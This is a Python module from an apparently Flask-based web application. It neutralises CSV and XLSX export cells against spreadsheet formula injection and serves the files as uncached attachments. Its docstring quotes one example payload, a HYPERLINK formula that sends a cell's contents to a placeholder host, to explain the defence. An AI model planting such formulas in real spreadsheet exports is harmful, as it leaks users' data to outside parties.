"""Spreadsheet-safe downloads: every CSV and XLSX the application writes goes through here.

Formula injection (OWASP "CSV Injection", CWE-1236): a spreadsheet program runs a cell that starts
with `=`, `+`, `-`, `@`, a tab or a line break as a formula, e.g. a family name
`=HYPERLINK("http://x?"&A1;"klick")`. So every text cell goes through `neutralise`: it passes
unchanged only when it starts with a letter, a digit or one of a few harmless characters (an
allowlist: fullwidth `＝`, a minus sign `−` or leading whitespace before `=` are caught as well);
any other text gets OWASP's single-quote prefix. Numbers stay numbers (a number is never a formula).

CSV fields are quoted whenever they hold a character some program splits on (`,`, `;`, a tab, a
line break) or a quote, so that no cell can start in the middle of a value either.
"""

from __future__ import annotations

import io
from collections.abc import Iterable
from typing import TYPE_CHECKING, Any, TextIO

from flask import Response, current_app

if TYPE_CHECKING:
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet

# Besides letters and digits, a text cell may start with these unchanged (IPv6 "::1", "./x", '"a"').
HARMLESS_FIRST_CHARACTERS = frozenset("._:/'\"")
# Fields holding one of these are quoted: separators a spreadsheet may guess, quotes, line breaks.
CSV_QUOTE_WHEN = frozenset(',;\t\r\n"')


def neutralise(value: Any) -> Any:
    """A text cell that a spreadsheet cannot read as a formula; anything else unchanged."""
    if not isinstance(value, str) or not value:
        return value
    first = value[0]
    if first.isalnum() or first in HARMLESS_FIRST_CHARACTERS:
        return value
    return "'" + value


def _csv_field(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, int | float) and not isinstance(value, bool):
        return str(value)  # numbers stay numbers, also negative ones
    text = neutralise(str(value))
    if any(character in CSV_QUOTE_WHEN for character in text):
        return '"' + text.replace('"', '""') + '"'
    return text


def write_csv(stream: TextIO, rows: Iterable[Iterable[Any]]) -> None:
    """Rows as CSV lines (`\\n`), every field neutralised; `None` is an empty field."""
    for row in rows:
        stream.write(",".join(_csv_field(value) for value in row) + "\n")


def csv_bytes(rows: Iterable[Iterable[Any]]) -> bytes:
    """UTF-8 with a byte-order mark, so that spreadsheet programs read umlauts correctly."""
    buffer = io.StringIO()
    buffer.write("\ufeff")
    write_csv(buffer, rows)
    return buffer.getvalue().encode("utf-8")


def append_xlsx_row(sheet: WriteOnlyWorksheet, row: Iterable[Any]) -> None:
    """A row for an openpyxl write-only sheet: text as neutralised string cells, never formulas."""
    from openpyxl.cell import WriteOnlyCell  # heavy; imported only when an XLSX is written

    cells: list[Any] = []
    for value in row:
        if isinstance(value, str):
            cell = WriteOnlyCell(sheet, value=neutralise(value))
            cell.data_type = "s"  # openpyxl would store a str starting with "=" as a formula
            cells.append(cell)
        else:
            cells.append(value)
    sheet.append(cells)


def download(body: bytes | str, content_type: str, filename: str) -> Response:
    """An attachment that no browser or proxy keeps: exports hold personal data."""
    response = current_app.response_class(body, content_type=content_type)
    response.headers["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.headers["Cache-Control"] = "no-store"
    return response
